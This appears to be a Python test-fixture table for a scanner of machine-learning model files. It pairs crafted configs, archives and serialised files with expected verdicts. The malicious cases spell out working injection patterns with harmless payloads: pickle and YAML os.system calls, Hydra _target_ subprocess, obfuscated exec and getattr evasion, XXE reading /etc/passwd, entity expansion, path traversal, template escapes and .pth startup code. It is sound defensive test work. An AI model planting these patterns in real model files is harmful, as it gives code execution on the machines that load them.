"""Files around models: Hugging Face's JSON, skops, TorchServe, NeMo, YAML, path files, signatures, trees, XML, R,
MessagePack, programs; and ordinary ones of each.
"""

# ruff: noqa: E501 - the cases are a table, one a line

from __future__ import annotations

import base64
import io
import json
import struct
import tarfile
from collections.abc import Iterator

from bartizan.artifacts.inspection import Verdict
from tests.artifacts.formats.build import (
    R_NIL,
    Json,
    archive,
    flax_array,
    gguf,
    msgpack,
    r_call,
    r_file,
    r_flags,
    r_list,
    r_numbers,
    r_promise,
    r_symbol,
    r_texts,
)

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 400
PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0ctouch marker\x85R."
Case = tuple[str, Verdict, bytes]


def cases() -> Iterator[Case]:
    """Each file with its name and the verdict that it must get."""
    for family in (_hugging_face, _skops, _serving, _yaml, _signatures, _trees, _pmml, _openvino, _r, _flax, _programs):
        yield from family()


def tarred(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as held:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        held.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _json(**content: object) -> bytes:
    return json.dumps(content).encode()


def _hugging_face() -> Iterator[Case]:
    llama: Json = {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "torch_dtype": "bfloat16"}
    yield "plain/config.json", Verdict.CLEAN, _json(**llama, max_position_embeddings=8192)
    yield "quantized/config.json", Verdict.CLEAN, _json(**llama, quantization_config={"quant_method": "awq"})
    yield (
        "plain/generation_config.json",
        Verdict.CLEAN,
        _json(bos_token_id=1, temperature=0.6, transformers_version="4.44.0"),
    )
    yield "plain/tokenizer_config.json", Verdict.CLEAN, _json(tokenizer_class="LlamaTokenizer", model_max_length=10**30)
    yield "own-code/config.json", Verdict.UNSAFE, _json(**llama, auto_map={"AutoModel": "modeling_mine.MyModel"})
    elsewhere = {"AutoConfig": "c.C", "AutoModelForCausalLM": "somebody/else--modeling.M"}
    yield "elsewhere/config.json", Verdict.SUSPICIOUS, _json(**llama, auto_map=elsewhere)
    yield "elsewhere/tokenizer_config.json", Verdict.SUSPICIOUS, _json(auto_map={"AutoTokenizer": ["x/y--t.T", None]})
    yield (
        "pipeline/config.json",
        Verdict.UNSAFE,
        _json(**llama, custom_pipelines={"pair": {"impl": "pair.Pair", "pt": ["AutoModel"]}}),
    )
    yield "trust/config.json", Verdict.UNSAFE, _json(**llama, trust_remote_code=True)
    yield "kernel/config.json", Verdict.SUSPICIOUS, _json(**llama, _attn_implementation="somebody/fast-attention")
    yield "attention/config.json", Verdict.CLEAN, _json(**llama, _attn_implementation="flash_attention_2")
    index = {"metadata": {"total_size": 32}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}
    yield "plain/model.safetensors.index.json", Verdict.CLEAN, _json(**index)
    climbs = {"weight_map": {"a": "../../../../etc/passwd", "b": "model.safetensors"}}
    yield "climbs/model.safetensors.index.json", Verdict.MALICIOUS, _json(**climbs)
    adapter = {"peft_type": "LORA", "base_model_name_or_path": "mistralai/Mistral-7B-v0.1", "r": 8}
    yield "plain/adapter_config.json", Verdict.CLEAN, _json(**adapter, auto_mapping=None)
    library = {"base_model_class": "Popen", "parent_library": "subprocess"}
    yield "library/adapter_config.json", Verdict.MALICIOUS, _json(**adapter, auto_mapping=library)
    sentence = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
    yield "plain/modules.json", Verdict.CLEAN, json.dumps(sentence).encode()
    yield "evil/modules.json", Verdict.MALICIOUS, json.dumps([{**sentence[0], "type": "os.system"}]).encode()
    diffusion = {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}
    yield "plain/model_index.json", Verdict.CLEAN, _json(**diffusion, safety_checker=[None, None])
    yield "evil/model_index.json", Verdict.MALICIOUS, _json(**diffusion, vae=["subprocess", "Popen"])
    yield "own/model_index.json", Verdict.UNSAFE, _json(**diffusion, vae=["my_vae", "MyVae"])
    yield (
        "vocabulary/tokenizer.json",
        Verdict.CLEAN,
        _json(version="1.0", model={"vocab": {"{{": 1, "__init__": 2, "a": 0}}),
    )


def _node(loader: str, module: str, name: str, **rest: object) -> Json:
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **rest}


def _skops() -> Iterator[Case]:
    array = _node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy")
    state = _node(
        "DictNode",
        "builtins",
        "dict",
        content={"coef_": array},
        key_types=_node("ListNode", "builtins", "list", content=[]),
    )
    good = _node(
        "ObjectNode", "sklearn.linear_model._logistic", "LogisticRegression", content=state, _skops_version="0.10"
    )

    def file(**replaced: Json) -> bytes:
        held = {**good, "content": {**state, "content": {"coef_": array, **replaced}}}
        return archive([("schema.json", json.dumps(held).encode())])

    yield "plain.skops", Verdict.CLEAN, file()
    yield (
        "types.skops",
        Verdict.CLEAN,
        file(dtype=_node("TypeNode", "numpy", "float64", content={"module_path": "numpy", "function": "float64"})),
    )
    yield (
        "ufunc.skops",
        Verdict.CLEAN,
        file(f=_node("FunctionNode", "numpy", "log1p", content={"module_path": "numpy", "function": "log1p"})),
    )
    yield "operator.skops", Verdict.MALICIOUS, file(f=_node("OperatorFuncNode", "os", "system", attrs=array))
    yield (
        "method-caller.skops",
        Verdict.MALICIOUS,
        file(f=_node("OperatorFuncNode", "operator", "methodcaller", attrs=array)),
    )
    method = {"obj": _node("ObjectNode", "sklearn.base", "BaseEstimator"), "func": "__reduce__"}
    yield "method.skops", Verdict.MALICIOUS, file(f=_node("MethodNode", "builtins", "method", content=method))
    function = {"module_path": "os", "function": "system"}
    yield "function.skops", Verdict.MALICIOUS, file(f=_node("FunctionNode", "builtins", "function", content=function))
    yield "object.skops", Verdict.MALICIOUS, file(f=_node("ObjectNode", "subprocess", "Popen", content=state))
    yield (
        "inner-module.skops",
        Verdict.MALICIOUS,
        file(f=_node("ObjectNode", "sklearn.utils.os", "system", content=state)),
    )
    fetches = {"module_path": "sklearn.datasets", "function": "fetch_openml"}
    yield (
        "fetches.skops",
        Verdict.SUSPICIOUS,
        file(f=_node("FunctionNode", "sklearn.datasets", "fetch_openml", content=fetches)),
    )
    yield "writes.skops", Verdict.MALICIOUS, file(f=_node("ObjectNode", "logging", "FileHandler", content=state))
    yield "own.skops", Verdict.UNSAFE, file(f=_node("ObjectNode", "my_pkg.models", "Mine", content=state))
    yield "renamed.zip", Verdict.MALICIOUS, file(f=_node("ObjectNode", "subprocess", "Popen", content=state))


HANDLER = "from ts.torch_handler.base_handler import BaseHandler\nimport os\n\nclass H(BaseHandler):\n    def handle(self, data, context):\n"


def _serving() -> Iterator[Case]:
    def archived(body: str) -> bytes:
        manifest = {"model": {"modelName": "m", "serializedFile": "m.safetensors", "handler": "handler.py"}}
        return archive([("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()), ("handler.py", body.encode())])

    yield "plain.mar", Verdict.CLEAN, archived(HANDLER + "        return self.model(data, os.path.join('a', 'b'))\n")
    yield "runs.mar", Verdict.MALICIOUS, archived(HANDLER + "        os.system('touch marker')\n")
    aliased = "import subprocess as sp\nfrom os import popen as read\n\ndef handle(d, c):\n    sp.run(['id'])\n    return read('id')\n"
    yield "model.tar.gz", Verdict.MALICIOUS, tarred("code/inference.py", b"import os\nos.system('touch marker')\n")
    yield "project.tar.gz", Verdict.CLEAN, tarred("src/build.py", b"import os\nos.system('make')\n")
    yield "aliased.mar", Verdict.MALICIOUS, archived(aliased)
    yield "decodes.mar", Verdict.MALICIOUS, archived("import base64\nexec(base64.b64decode('cGFzcw=='))\n")
    yield "imports.mar", Verdict.MALICIOUS, archived("__import__('os').system('touch marker')\n")
    yield "assigned.mar", Verdict.MALICIOUS, archived("import os\nrun = os.system\nrun('touch marker')\n")
    yield "by-name.mar", Verdict.MALICIOUS, archived("import os as o\ngetattr(o, 'sys' + 'tem')('touch marker')\n")
    yield "handed-on.mar", Verdict.MALICIOUS, archived("import os\nlist(map(os.system, ['touch marker']))\n")
    yield "builtins.mar", Verdict.MALICIOUS, archived("__builtins__['ev' + 'al']('1')\n")
    computed = "import importlib\nimportlib.import_module(chr(111) + chr(115))\n"
    yield "computes-import.mar", Verdict.SUSPICIOUS, archived(computed)
    ordinary = (
        "import importlib\nimportlib.import_module('.x', 'pkg')\nmodel.eval()\ntorch.compile(m)\ngetattr(m, 'x')\n"
    )
    yield "ordinary.mar", Verdict.CLEAN, archived(ordinary)
    yield (
        "sends.mar",
        Verdict.SUSPICIOUS,
        archived("import requests\n\ndef handle(d, c):\n    requests.post('https://x.invalid', d)\n"),
    )
    yield "installs.mar", Verdict.SUSPICIOUS, archived("import subprocess\nsubprocess.run(['pip', 'install', 'x'])\n")
    yield "editable.pth", Verdict.CLEAN, b"import __editable___x_finder; __editable___x_finder.install()\n/src/x\n"
    yield "paths.pth", Verdict.CLEAN, b"/srv/lib\n../other\n"
    yield "starts.pth", Verdict.MALICIOUS, b"/srv/lib\nimport os; os.system('touch marker')\n"
    yield "starts-quietly.pth", Verdict.SUSPICIOUS, b"import innocent_looking_package\n"


def _yaml() -> Iterator[Case]:
    nemo = b"target: nemo.collections.asr.models.EncDecCTCModel\nnemo_version: 1.20.0\nencoder:\n  _target_: "
    yield "plain/model_config.yaml", Verdict.CLEAN, nemo + b"nemo.collections.asr.modules.ConformerEncoder\n"
    yield "own/model_config.yaml", Verdict.UNSAFE, nemo + b"my_pkg.Encoder\n"
    yield "target/model_config.yaml", Verdict.MALICIOUS, nemo + b"subprocess.check_output\n  args: [id]\n"
    yield "target-inside/model_config.yaml", Verdict.MALICIOUS, nemo + b"torch.serialization.os.system\n"
    yield "target-loader/model_config.yaml", Verdict.MALICIOUS, nemo + b"torch.hub.load\n"
    yield "target-alias/config.yaml", Verdict.MALICIOUS, b"a: &x os.system\nb:\n  _target_: *x\n"
    yield "target-method/config.yaml", Verdict.MALICIOUS, b"b:\n  _target_: pathlib.Path.write_text\n"
    yield "target-inner/config.yaml", Verdict.MALICIOUS, b"b:\n  _target_: numpy.lib.npyio.DataSource\n"
    yield "target-in-list/config.yml", Verdict.MALICIOUS, b"callbacks:\n- {_target_: builtins.exec, _args_: ['1']}\n"
    yield "tag/config.yaml", Verdict.MALICIOUS, b"a: !!python/object/apply:os.system ['touch marker']\n"
    yield "tag-new/config.yaml", Verdict.MALICIOUS, b"!!python/object/new:subprocess.Popen [['id']]\n"
    yield "tag-name/config.txt", Verdict.MALICIOUS, b"a: !!python/name:builtins.eval ''\n"
    yield (
        "tag-long/config.yaml",
        Verdict.MALICIOUS,
        b"%TAG !e! tag:yaml.org,2002:python/\n---\na: !e!object/apply:os.system ['x']\n",
    )
    yield "tag-plain/config.yaml", Verdict.CLEAN, b"a: !!python/tuple [1, 2]\nb: !!python/none ~\n"
    yield (
        "anchors/config.yaml",
        Verdict.CLEAN,
        b"base: &b {lr: 0.1}\nrun:\n  <<: *b\n  optimizer: {_target_: torch.optim.AdamW}\n",
    )
    yield "template/config.yaml", Verdict.MALICIOUS, b"chat_template: \"{{ ''.__class__.__mro__ }}\"\n"
    yield "text/config.yaml", Verdict.SUSPICIOUS, b"note: \"{{ ''.__class__.__mro__ }}\"\n"
    yield (
        "plain.nemo",
        Verdict.CLEAN,
        tarred("model_config.yaml", nemo + b"nemo.collections.asr.modules.ConformerEncoder\n"),
    )
    yield "target.nemo", Verdict.MALICIOUS, tarred("./model_config.yaml", nemo + b"os.system\n")
    yield "plain/MLmodel", Verdict.CLEAN, b"flavors:\n  python_function:\n    env: conda.yaml\nmlflow_version: 2.9.0\n"
    yield "loader/MLmodel", Verdict.MALICIOUS, b"flavors:\n  python_function:\n    loader_module: os.system\n"
    card = b"---\nlicense: apache-2.0\nbase_model: x/y\ndatasets:\n- a\n- b\n---\n# Card\n"
    yield "card/README.md", Verdict.CLEAN, card
    yield (
        "plain/config.cfg",
        Verdict.CLEAN,
        b'[nlp]\nlang = "en"\n[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n',
    )
    yield (
        "own/config.cfg",
        Verdict.UNSAFE,
        b'[nlp]\nlang = "en"\n[initialize.before_init]\n@callbacks = "somebodys_hook"\n',
    )


def _signatures() -> Iterator[Case]:
    resources = [{"name": "model.safetensors", "algorithm": "sha256", "digest": "ab" * 32}]
    statement = {"_type": "https://in-toto.io/Statement/v1", "predicate": {"resources": resources}}
    payload = base64.b64encode(json.dumps(statement).encode()).decode()
    bundle = {"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "verificationMaterial": {}}
    envelope = {"payload": payload, "payloadType": "application/vnd.in-toto+json", "signatures": [{"sig": "MEUC"}]}
    yield "model.sig", Verdict.CLEAN, _json(**bundle, dsseEnvelope=envelope)
    yield "unsigned/model.sig", Verdict.SUSPICIOUS, _json(**bundle, dsseEnvelope={**envelope, "signatures": []})
    yield "garbage/model.sig", Verdict.UNASSESSED, _json(**bundle, dsseEnvelope={**envelope, "payload": "%%%"})


def _trees() -> Iterator[Case]:
    learner = {"gradient_booster": {"model": {"trees": []}}, "objective": {"name": "binary:logistic"}}
    yield "xgboost.json", Verdict.CLEAN, _json(learner=learner, version=[2, 0, 3])
    yield (
        "xgboost.ubj",
        Verdict.CLEAN,
        b"{L" + struct.pack(">q", 7) + b"learner{L" + struct.pack(">q", 4) + b"nameSL\0}}",
    )
    yield (
        "lightgbm.txt",
        Verdict.CLEAN,
        b"tree\nversion=v4\nnum_class=1\nobjective=binary sigmoid:1\n\nTree=0\nend of trees\n",
    )
    yield "lightgbm-program.txt", Verdict.MALICIOUS, b"tree\nversion=v4\nobjective=binary\nend of trees\n" + ELF
    yield "catboost.cbm", Verdict.CLEAN, b"CBM1" + struct.pack("<I", 64) + b"\1" * 64
    yield "catboost-program.cbm", Verdict.MALICIOUS, b"CBM1" + struct.pack("<I", 64) + b"\1" * 64 + ELF
    yield (
        "catboost-pickle.cbm",
        Verdict.MALICIOUS,
        b"CBM1" + struct.pack("<I", 64) + b"\1" * 64 + PICKLE.replace(b"\x80\x04", b"\x80\x04\x95\x30\0\0\0\0\0\0\0"),
    )


def _pmml() -> Iterator[Case]:
    head = '<?xml version="1.0"?>'
    body = (
        '<PMML version="4.4"><Header><Application name="x"/></Header><TreeModel functionName="classification"/></PMML>'
    )
    yield "plain.pmml", Verdict.CLEAN, (head + body).encode()
    yield (
        "entity.pmml",
        Verdict.MALICIOUS,
        (head + '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body).encode(),
    )
    yield (
        "entity-url.xml",
        Verdict.MALICIOUS,
        (head + '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://x.invalid/d">%x;]>' + body).encode(),
    )
    book = '<!DOCTYPE book [<!ENTITY x SYSTEM "chapter.xml">]><book>&x;</book>'
    yield "book.xml", Verdict.CLEAN, (head + book).encode()
    late = f"<!--{' ' * 9000}--><!DOCTYPE PMML [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    yield "late.xml", Verdict.MALICIOUS, (head + late + body).encode()
    growing = '<!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    yield "grows.pmml", Verdict.MALICIOUS, (head + growing + body.replace('name="x"', 'name="&b;"')).encode()
    yield (
        "doctype.pmml",
        Verdict.MALICIOUS,
        (head + '<!DOCTYPE PMML SYSTEM "http://x.invalid/collect">' + body).encode(),
    )
    yield (
        "entity-utf-16.pmml",
        Verdict.MALICIOUS,
        ('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body).encode("utf-16"),
    )
    apply = '<DefineFunction name="java.lang.Runtime.exec"/></PMML>'
    yield "java.pmml", Verdict.MALICIOUS, (head + body.replace("</PMML>", apply)).encode()


def _openvino() -> Iterator[Case]:
    def net(layer: str) -> bytes:
        return f'<?xml version="1.0"?><net name="m" version="11"><layers>{layer}</layers></net>'.encode()

    yield "plain.xml", Verdict.CLEAN, net('<layer id="0" name="a" type="Parameter" version="opset1"/>')
    yield "extension.xml", Verdict.SUSPICIOUS, net('<layer id="0" name="a" type="Run" version="evil_ops"/>')
    yield (
        "path.xml",
        Verdict.MALICIOUS,
        net('<layer id="0" type="Const" version="opset1"><data path="/etc/passwd"/></layer>'),
    )


def _r() -> Iterator[Case]:
    fit = r_call("lm", r_symbol("formula"), r_symbol("cars"))
    yield "plain.rds", Verdict.CLEAN, r_file(r_list({"coefficients": r_numbers(1, 2), "call": fit}, "lm"))
    yield "numbers.rds", Verdict.CLEAN, r_file(r_numbers(*range(50)))
    yield (
        "workspace.rda",
        Verdict.CLEAN,
        b"RDX2\n" + r_file(r_flags(2, tag=True) + r_symbol("fit") + r_texts("a") + R_NIL),
    )
    yield "promise.rds", Verdict.MALICIOUS, r_file(r_list({"a": r_promise(r_call("system", r_texts("touch marker")))}))
    yield (
        "promise-quiet.rda",
        Verdict.MALICIOUS,
        b"RDX2\n" + r_file(r_flags(2, tag=True) + r_symbol("x") + r_promise(r_symbol("y")) + R_NIL),
    )
    yield "call.rds", Verdict.MALICIOUS, r_file(r_list({"call": r_call("system", r_texts("touch marker"))}, "lm"))
    expression = r_flags(20) + struct.pack(">i", 1) + r_call("mean", r_symbol("x"))
    yield "expression.rds", Verdict.UNSAFE, r_file(expression)
    yield "cut.rds", Verdict.UNASSESSED, r_file(r_numbers(*range(50)))[:-9]


def _flax() -> Iterator[Case]:
    yield (
        "plain.msgpack",
        Verdict.CLEAN,
        msgpack({"params": {"dense": {"kernel": flax_array(4, 4), "bias": flax_array(4)}}}),
    )
    yield "renamed.bin", Verdict.CLEAN, msgpack({"params": {"kernel": flax_array(2, 2)}})
    yield "pickle.msgpack", Verdict.MALICIOUS, msgpack({"params": {"kernel": PICKLE}})
    yield "old-pickle.msgpack", Verdict.MALICIOUS, msgpack({"params": {"k": b"cos\nsystem\n(S'touch marker'\ntR."}})
    yield "bytes.msgpack", Verdict.CLEAN, msgpack({"params": {"k": b"\1\2\3\4" * 9}})
    yield "extension.msgpack", Verdict.SUSPICIOUS, msgpack({"params": {"kernel": (42, b"abcdefgh")}})
    yield "program.msgpack", Verdict.MALICIOUS, msgpack({"params": {"kernel": ELF}})
    yield "trailing.msgpack", Verdict.MALICIOUS, msgpack({"params": {"kernel": flax_array(2)}}) + ELF
    yield "cut.msgpack", Verdict.UNASSESSED, msgpack({"params": {"kernel": flax_array(4, 4)}})[:-5]


def _programs() -> Iterator[Case]:
    yield "model.bin", Verdict.MALICIOUS, ELF
    yield "model.gguf", Verdict.MALICIOUS, ELF
    yield "script/model.bin", Verdict.SUSPICIOUS, b"#!/bin/sh\ntouch marker\n"
    yield "Tool.pm", Verdict.CLEAN, b"#!/usr/bin/perl\nuse strict;\n"
    weights = gguf({"general.architecture": "llama"})
    yield "tiny.llamafile", Verdict.UNSAFE, b"MZqFpD='\n" + b"\0" * 500 + archive([("weights.gguf", weights)])
    escape = gguf({"tokenizer.chat_template": "{{ ''.__class__ }}"})
    yield "evil.llamafile", Verdict.MALICIOUS, ELF + archive([("weights.gguf", escape)])
    yield "run.mar", Verdict.MALICIOUS, archive([("MAR-INF/MANIFEST.json", b"{}"), ("tool", ELF)])
